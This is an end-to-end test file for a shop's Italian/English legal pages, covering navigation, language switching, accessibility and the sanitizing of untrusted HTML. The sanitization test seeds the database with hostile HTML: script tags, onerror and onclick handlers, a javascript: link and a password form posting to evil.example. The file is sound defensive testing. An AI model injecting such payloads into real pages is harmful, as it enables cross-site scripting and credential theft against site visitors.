import { expectAccessible } from '#tests/e2e/helpers/browser/axe.ts';
import { executeSql } from '#tests/e2e/helpers/fixtures/sql.ts';
import { expect, test } from '#tests/e2e/helpers/fixtures/test.ts';
import { supportButton } from '#tests/e2e/helpers/pages/issue-dialog.ts';
import { logInAs } from '#tests/e2e/helpers/pages/members.ts';
import { switchLanguage } from '#tests/e2e/helpers/pages/preferences.ts';

test.use({ freshShop: true });

const pages = [
  { path: '/privacy', it: 'Informativa sulla privacy', en: 'Privacy policy', content: /dati personali/u },
  { path: '/terms', it: 'Termini e condizioni', en: 'Terms and conditions', content: /ordin/u },
  { path: '/cookies', it: 'Cookie', en: 'Cookies', content: /soltanto cookie tecnici/u },
] as const;

test('shows the legal pages to a visitor', async ({ page, network, unexpectedConsoleErrors }) => {
  unexpectedConsoleErrors.allow(/status of 503.*\/api\/cookies/u);
  const heading = page.getByRole('heading', { level: 1 });
  const text = page.getByRole('article');
  const openPage = (name: string) =>
    page.getByRole('navigation', { name: 'Pagine legali' }).getByRole('link', { name, exact: true }).click();

  // REQ-ERR-05
  await test.step('offers a retry when a text fails to load', async () => {
    await page.goto(`${network.origin}/terms`);
    await expect(text).toContainText('ordin');
    const restore = network.failRequests('/api/cookies', 503);
    await openPage('Cookie');
    const retry = page.getByRole('button', { name: 'Riprova' });
    await expect(retry).toBeVisible({ timeout: 60_000 });
    restore();
    await retry.click();
    await expect(text).toContainText('soltanto cookie tecnici');
  });

  for (const { path, it, en, content } of pages) {
    // REQ-PAGE-01, REQ-ROUTE-04
    await test.step(`${path} shows its banner and text to a visitor, in both languages`, async () => {
      await openPage(it);
      await expect(page).toHaveURL(network.origin + path);
      await expect(heading).toHaveText(it);
      await expect(text).toContainText(content);
      await expect(text.getByRole('heading', { level: 2 }).first()).toBeVisible();
      await expect(page.getByRole('link', { name: it, exact: true }).first()).toHaveAttribute('aria-current', 'page');
      await expectAccessible(page);
      const italian = await text.innerText();
      await switchLanguage(page, 'English');
      await expect(heading).toHaveText(en);
      await expect(text).not.toContainText(content);
      await expect(text.getByRole('heading', { level: 2 }).first()).toBeVisible();
      expect(await text.innerText()).not.toBe(italian);
      await switchLanguage(page, 'Italiano');
      await expect(heading).toHaveText(it);
    });
  }

  // REQ-SHELL-10, REQ-SHELL-13
  await test.step('shows no support button to a visitor', async () => {
    // The button loads later than the page's content. By now, it would be there.
    await expect(supportButton(page)).toHaveCount(0);
  });
});

/** HTML of the database is not trusted: the page sanitizes it again. */
const hostileHtml = `
  <h2 style="position:fixed;inset:0" onclick="window.hit=1">Titolo</h2>
  <script>window.hit = 1</script><img src="x" onerror="window.hit=1">
  <form action="https://evil.example"><input name="password"></form>
  <iframe src="/login"></iframe><style>body { display: none }</style>
  <p><a href="javascript:window.hit=1">uno</a> <a href="https://example.com">due</a> testo</p>`;

// SEC-03
test('removes hostile HTML from the page (SEC-03)', async ({ page, context, shop, unexpectedConsoleErrors }) => {
  // The sanitizer parses the HTML in a separate document, where the content policy already blocks it.
  unexpectedConsoleErrors.allowCritical(/inline (?:style|event handler) violates.*\/sanitize-html/u);
  await executeSql(shop, 'update legal_texts set html = $1', [{ it: hostileHtml, en: hostileHtml }]);
  await executeSql(shop, 'update faqs set answer = $1', [{ it: hostileHtml, en: hostileHtml }]);
  await logInAs(context, shop);
  const main = page.getByRole('main');
  const expectSanitized = async () => {
    const title = main.getByRole('heading', { level: 2, name: 'Titolo' });
    await expect(title).toBeVisible();
    await title.click();
    await expect(main.locator('script, form, iframe, style, img, [onclick], [onerror]')).toHaveCount(0);
    expect(await title.getAttribute('style')).toBeNull();
    const link = main.getByRole('link', { name: 'due' }).first();
    await expect(link).toHaveAttribute('rel', 'noopener noreferrer nofollow');
    await expect(main.locator('a[href^="javascript"]')).toHaveCount(0);
    expect(await page.evaluate(() => 'hit' in window)).toBe(false);
  };
  await page.goto('/privacy');
  await expectSanitized();
  for (const name of ['Termini e condizioni', 'Cookie', 'Domande frequenti']) {
    await page.getByRole('contentinfo').getByRole('link', { name, exact: true }).click();
    await expect(page.getByRole('heading', { level: 1 })).toHaveText(name);
    if (name === 'Domande frequenti') await main.getByRole('heading', { level: 2 }).getByRole('button').first().click();
    await expectSanitized();
  }
});
